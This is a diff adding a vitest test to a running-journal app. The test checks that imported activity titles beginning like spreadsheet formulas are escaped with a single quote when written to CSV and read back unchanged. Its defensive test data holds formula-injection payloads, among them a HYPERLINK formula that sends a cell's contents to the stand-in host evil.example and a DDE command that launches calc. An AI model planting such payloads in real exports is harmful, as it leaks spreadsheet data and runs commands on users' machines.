@@ -1,9 +1,11 @@
 // The journal reader on the files `import` writes: the efforts column, the source, the route files.
-import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
+import { mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { createProgress } from '../../src/lib/import/progress.ts';
+import { writeImported } from '../../src/lib/import/write-imported.ts';
+import { emptyRunDraft } from '../../src/lib/model/run-columns.ts';
 import { formatEfforts, parseEfforts } from '../../src/lib/journal/imported-runs.ts';
 import { readJournal } from '../../src/lib/journal/read-journal.ts';
 import { parseRouteGeoJson, trackToGeoJson } from '../../src/lib/journal/routes.ts';
@@ -108,5 +110,48 @@ describe('progress', () => {
     bar.update(10, 100);
     bar.finish();
     expect(tty).toBe('\r\u001b[2KReading activities: 10 of 100 (10%), about 45 s left\n');
+  });
+});
+
+describe('text from an export that a spreadsheet would run as a formula', () => {
+  const draft = (date: string, fields: { title: string | null; notes?: string | null; temperature?: number | null }) => ({
+    ...emptyRunDraft({ date, distance: 5000, source: { path: 'export', line: null, kind: 'strava' as const } }),
+    time: 1500,
+    type: 'Run',
+    ...fields,
+  });
+
+  it('is written behind a single quote, reads back exactly as it was, and the rows already there keep their bytes', async () => {
+    const data = join(root, 'formulae');
+    await mkdir(join(data, 'imported'), { recursive: true });
+    // A row the runner already has, written by hand with a formula start: its bytes are never touched.
+    const existing = `${HEADER}\n2024-05-01T07:00:00,5000 m,25:00,=1+1 by hand,Run,,-3,,,,,strava:1,,\n`;
+    await writeFile(join(data, 'imported/strava.csv'), existing);
+    const titles = ['=HYPERLINK("http://evil.example/?x="&A1)', '+CMD|\' /C calc\'!A0', '-5°C and windy', '@SUM(1)', "'=already quoted", 'Plain run'];
+    const runs = titles.map((title, i) => ({
+      target: 'strava' as const,
+      source: `strava:${10 + i}`,
+      draft: draft(`2024-05-0${i + 2}`, { title, notes: i === 0 ? '\tTabbed note' : null, temperature: i === 2 ? -5 : null }),
+    }));
+    await writeImported(data, runs, data);
+
+    const text = await readFile(join(data, 'imported/strava.csv'), 'utf8');
+    expect(text.startsWith(existing)).toBe(true);
+    const added = text.slice(existing.length).split('\n');
+    expect(added[0]).toMatch(/^2024-05-02,5000 m,25:00,"'=HYPERLINK\(""http:\/\/evil\.example\/\?x=""&A1\)",Run,,,'\tTabbed note,/);
+    expect(added[1]).toContain(",'+CMD|' /C calc'!A0,");
+    // A negative temperature is a number, not text: it stays as it is.
+    expect(added[2]).toContain(",'-5°C and windy,Run,,-5,");
+    expect(added[3]).toContain(",'@SUM(1),");
+    expect(added[4]).toContain(",''=already quoted,");
+    expect(added[5]).toContain(',Plain run,');
+    // No text cell of a new row starts a formula.
+    for (const row of added.filter((line) => line !== '')) expect(row.split(',').filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^-\d+$/.test(cell))).toEqual([]);
+
+    const journal = await readJournal(data);
+    expect(journal.errors).toEqual([]);
+    expect(journal.runs.map((run) => run.title)).toEqual(['=1+1 by hand', ...titles]);
+    expect(journal.runs[1]!.notes).toBe('Tabbed note');
+    expect(journal.runs.map((run) => run.temperature)).toEqual([-3, null, null, -5, null, null, null]);
   });
 });
